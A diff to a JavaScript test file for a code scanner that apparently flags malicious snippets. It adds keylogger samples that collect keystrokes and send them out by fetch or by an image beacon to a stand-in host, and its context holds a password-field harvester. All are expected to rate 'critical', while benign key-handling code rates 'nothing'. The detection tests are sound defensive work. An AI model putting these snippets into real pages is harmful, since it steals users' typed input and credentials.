@@ -21,6 +21,12 @@ test("bad: what it looks for", () => {
 });
 
 test('bad: what is typed, cookies, and who installs it', () => {
+  assert.equal(worst('(function (studio) { let kept = ""; function send() { const dot = new Image(); dot.src = "//in.example/p.gif?v=" + encodeURIComponent(kept); kept = "" } function heard(event) { if (event.key === "Enter") send(); else kept += event.key } studio.document.addEventListener("keydown", heard, true) })(window.top)'), 'critical');
+  assert.equal(worst('class Recorder { kept = ""; start() { parent.document.addEventListener("keyup", this.heard.bind(this)) } heard({ key }) { this.kept += key } send() { fetch(u, { method: "POST", body: this.kept }) } }'), 'critical');
+  assert.equal(worst('class Recorder { #kept = ""; constructor(page) { page.addEventListener("keydown", this.heard) } heard = ({ key }) => { this.#kept += key }; send() { fetch(u, { method: "POST", body: this.#kept }) } }'), 'critical');
+  assert.equal(worst('let kept = ""; document.onkeydown = (event) => { kept += event.key }; setInterval(() => fetch(u, { method: "POST", body: kept }), 900)'), 'critical');
+  assert.equal(worst('class Steps { #at = 0; constructor(page) { page.addEventListener("keydown", this.turn) } turn = ({ key }) => { if (key === "n") this.#at++; }; send() { fetch(u, { method: "POST", body: this.#at }) } }'), 'nothing');
+  for (const code of ['input.addEventListener("keyup", search); async function search(event) { show(await fetch("https://words.example/?q=" + event.currentTarget.value)) }', 'addEventListener("keydown", seen); function seen(event) { count({ kind: event.type, at: event.timeStamp }) } function count(one) { navigator.sendBeacon(u, JSON.stringify(one)) }', 'function turn(event) { at = event.key === "ArrowRight" ? at + 1 : at - 1; picture.src = pictures[at] } document.addEventListener("keydown", turn)']) assert.equal(worst(code), 'nothing', code);
   assert.equal(worst("let typed = \"\"; document.addEventListener(\"keydown\", (e) => { typed += e.key; fetch(u, { body: typed }) })"), 'critical');
   assert.equal(worst("const v = [...document.querySelectorAll(\"input[type=password]\")].map((f) => f.value); navigator.sendBeacon(u, v.join())"), 'critical');
   for (const code of [
